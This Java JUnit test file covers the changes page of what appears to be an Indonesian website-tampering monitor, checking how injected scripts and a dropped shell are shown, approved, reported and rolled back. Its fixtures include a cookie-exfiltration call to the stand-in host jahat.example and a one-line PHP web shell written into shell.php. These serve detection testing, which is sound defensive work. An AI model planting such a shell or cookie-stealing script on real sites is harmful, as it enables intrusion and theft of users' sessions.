package id.jagasitus.admin;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import id.jagasitus.event.Severity;
import id.jagasitus.watch.Tie;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.stream.Stream;
import org.htmlunit.html.HtmlCheckBoxInput;
import org.htmlunit.html.HtmlForm;
import org.htmlunit.html.HtmlPage;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/** Perubahan, over a small site with an injection and a dropped shell. */
final class ChangesTest {

  private AdminServer server;
  private Browser browser;

  @BeforeEach
  void open() throws Exception {
    server = Rooms.with(List.of());
    browser = Browser.loggedIn(server, "budi");
  }

  @AfterEach
  void close() throws Exception {
    browser.close();
    server.close();
  }

  @Test
  void changes_servedStranger_isShownApprovedAndReported() throws Exception {
    String list = Browser.main(browser.get("/perubahan"));
    assertTrue(list.contains("jahat.example/x.js"), list);
    assertTrue(list.contains("Skrip dari host luar"), list);
    assertTrue(list.contains("kirim('https://jahat.example/', document.cookie)"), list);
    HtmlPage one =
        (HtmlPage) browser.get("/perubahan").getAnchorByText("jahat.example/x.js").click();
    String text = Browser.main(one);
    assertTrue(text.contains("Halaman menjalankan skrip dari host luar."), text);
    assertTrue(text.contains("https://jahat.example/x.js?v=1"), text);
    assertTrue(text.contains("Tautan keluar: koran.example"), text);
    Browser.submit(Browser.form(one, "/perubahan/sajian/temuan"));
    assertEquals("served-change", server.console.watched.signals.getLast().intent());
    HtmlPage after = Browser.submit(Browser.form(one, "/perubahan/sajian/setujui"));
    assertTrue(Browser.main(after).contains("Disetujui dan dicatat"), Browser.main(after));
    assertFalse(Browser.main(browser.get("/perubahan")).contains("jahat.example/x.js"));
    assertTrue(Browser.main(browser.get("/perubahan/sajian")).contains("jahat.example/x.js"));
  }

  @Test
  void served_list_showsWhatCameAndWent() throws Exception {
    String text = Browser.main(browser.get("/perubahan/sajian"));
    assertTrue(
        text.contains("Skrip dari host luar: www.googletagmanager.com/gtag/js?id=G-1"), text);
    assertTrue(text.contains("oleh budi"), text);
    assertTrue(text.contains("Tautan keluar: koran.example"), text);
  }

  @Test
  void served_approvedTwice_isRefused() throws Exception {
    HtmlPage one = (HtmlPage) browser.get("/perubahan").getAnchorByText("koran.example").click();
    HtmlForm form = Browser.form(one, "/perubahan/sajian/setujui");
    Browser.submit(form);
    assertTrue(Browser.main(Browser.submit(form)).contains("situs berubah sejak"));
    assertEquals(
        server.url("/perubahan"),
        browser.get("/perubahan/sajian/rinci?id=tidak-ada").getUrl().toString());
  }

  @Test
  void served_chosen_areApprovedTogether() throws Exception {
    HtmlPage page = browser.get("/perubahan");
    HtmlForm form = Browser.form(page, "/perubahan/sajian/setujui");
    assertTrue(Browser.main(Browser.submit(form)).contains("Pilih sedikitnya satu"));
    HtmlForm again = Browser.form(browser.get("/perubahan"), "/perubahan/sajian/setujui");
    again.getInputsByName("sajian").forEach(box -> ((HtmlCheckBoxInput) box).setChecked(true));
    Browser.submit(again);
    assertTrue(Browser.main(browser.get("/perubahan")).contains("Tidak ada yang baru pada 2"));
  }

  @Test
  void served_firstState_isRefusedWhileThereAreSigns() throws Exception {
    var outgoing = server.console.watched.outgoing;
    outgoing.begin("https://baru.go.id/");
    Instant at = Instant.parse("2026-11-22T03:00:00Z");
    outgoing.looked(
        "/",
        Map.of(new Tie(Tie.Kind.LINK, "a.example"), "", new Tie(Tie.Kind.FRAME, "b.example"), ""),
        (tie, came) -> Severity.INFO,
        at);
    HtmlPage list = browser.get("/perubahan");
    assertTrue(Browser.main(list).contains("2 host dan skrip pada 1 halaman"), list.asXml());
    HtmlForm form = Browser.form(browser.get("/perubahan/sajian"), "/perubahan/sajian/setujui");
    assertTrue(Browser.main(Browser.submit(form)).contains("tanda sisipan yang kritis"));
    HtmlForm again = Browser.form(browser.get("/perubahan/sajian"), "/perubahan/sajian/setujui");
    again.getInputByName("walau").setChecked(true);
    assertTrue(Browser.main(Browser.submit(again)).contains("Disetujui dan dicatat"));
    assertEquals("budi", outgoing.view().by());
  }

  @Test
  void changes_asCsv_holdFilesAndWhatIsServed() throws Exception {
    String csv =
        browser
            .client()
            .getPage(server.url("/perubahan/csv"))
            .getWebResponse()
            .getContentAsString();
    assertTrue(csv.contains("shell.php"), csv);
    assertTrue(csv.contains("jahat.example/x.js"), csv);
    assertTrue(csv.contains("Skrip dari host luar"), csv);
  }

  @Test
  void approve_all_coversFilesAndWhatIsServed() throws Exception {
    HtmlPage page = browser.get("/perubahan");
    HtmlForm form = page.getFirstByXPath("//form[input[@name='semua']]");
    form.getInputByName("walau").setChecked(true);
    String text = Browser.main(Browser.submit(form));
    assertTrue(text.contains("Tidak ada yang baru pada 2"), text);
    assertTrue(text.contains("Tidak ada perbedaan dengan acuan."), text);
  }

  @Test
  void changes_undoneByOneClick_areAsApproved() throws Exception {
    HtmlPage one = browser.get("/perubahan/rinci?berkas=berita%2Findex.html");
    assertTrue(Browser.main(one).contains("promo.example"));
    assertTrue(Browser.main(one).contains("Ini bagian dari penyisipan."), Browser.main(one));
    HtmlPage after = Browser.submit(Browser.form(one, "/perubahan/pulihkan"));
    assertTrue(Browser.main(after).contains("berita/index.html dipulihkan"));
    assertFalse(Files.readString(site().resolve("berita/index.html")).contains("promo.example"));
    HtmlPage shell = browser.get("/perubahan/rinci?berkas=shell.php");
    Browser.submit(Browser.form(shell, "/perubahan/pulihkan"));
    assertFalse(Files.exists(site().resolve("shell.php")));
    assertTrue(
        Browser.main(browser.get("/perubahan")).contains("Tidak ada perbedaan dengan acuan."));
  }

  @Test
  void served_approvedByCommand_namesTheCommandLineInTheReadersLanguage() throws Exception {
    Instant at = Instant.parse("2026-11-22T05:00:00Z");
    server.console.watched.outgoing.approveAll("command line", "", at);
    String text = Browser.main(browser.get("/perubahan/sajian"));
    assertTrue(text.contains("oleh baris perintah"), text);
  }

  @Test
  void changes_approvedContentNowhere_saysWhatElseCanBeDone() throws Exception {
    HtmlForm undo =
        Browser.form(
            browser.get("/perubahan/rinci?berkas=berita%2Findex.html"), "/perubahan/pulihkan");
    try (Stream<Path> all = Files.walk(Objects.requireNonNull(site().getParent()))) {
      for (Path copy : all.filter(path -> path.toString().contains("/approved/")).toList()) {
        Files.delete(copy);
      }
    }
    String text = Browser.main(Browser.submit(undo));
    assertTrue(text.contains("Berkas ini tidak dapat dipulihkan dari sini"), text);
    assertTrue(Files.readString(site().resolve("berita/index.html")).contains("promo.example"));
  }

  @Test
  void changes_decidedFromAnOldPage_areGone() throws Exception {
    HtmlPage old = browser.get("/perubahan/rinci?berkas=shell.php");
    HtmlForm again = Browser.form(old, "/perubahan/temuan");
    Browser.submit(Browser.form(old, "/perubahan/pulihkan"));
    String text = Browser.main(Browser.submit(again));
    assertTrue(text.contains("Yang dimaksud sudah tidak ada."), text);
  }

  @Test
  void changes_infectedSite_isNotApprovedAsAWhole() throws Exception {
    HtmlForm form =
        (HtmlForm) browser.get("/perubahan").getFirstByXPath("//form[input[@name='semua']]");
    HtmlPage after = Browser.submit(form);
    assertTrue(Browser.main(after).contains("tanda sisipan yang kritis"));
    assertFalse(server.console.watch().now().approved());
  }

  @Test
  void changes_whatNobodySaw_isNotApproved() throws Exception {
    HtmlForm stale =
        Browser.form(browser.get("/perubahan/rinci?berkas=shell.php"), "/perubahan/setujui");
    Files.writeString(site().resolve("shell.php"), "<?php system($_GET['lain']);");
    Browser.submit(Browser.form(browser.get("/pantauan"), "/pantauan/periksa"));
    String after = Browser.main(Browser.submit(stale));
    assertTrue(after.contains("situs berubah sejak halaman ini dibuka"), after);
    HtmlForm fresh =
        Browser.form(browser.get("/perubahan/rinci?berkas=shell.php"), "/perubahan/setujui");
    assertTrue(Browser.main(Browser.submit(fresh)).contains("Perubahan disetujui"));
  }

  @Test
  void changes_reported_becomeASignal() throws Exception {
    HtmlPage one = browser.get("/perubahan/rinci?berkas=shell.php");
    Browser.submit(Browser.form(one, "/perubahan/temuan"));
    assertEquals("change-reported", server.console.watched.signals.getFirst().rule());
  }

  @Test
  void publishing_openedAndClosed_isSaid() throws Exception {
    HtmlPage open = Browser.submit(Browser.form(browser.get("/perubahan"), "/perubahan/terbit"));
    assertTrue(Browser.main(open).contains("Masa penerbitan dibuka."));
    HtmlPage closed = Browser.submit(Browser.form(open, "/perubahan/selesai"));
    assertTrue(Browser.main(closed).contains("Masa penerbitan ditutup"));
  }

  private Path site() {
    return server.console.watched.site;
  }
}
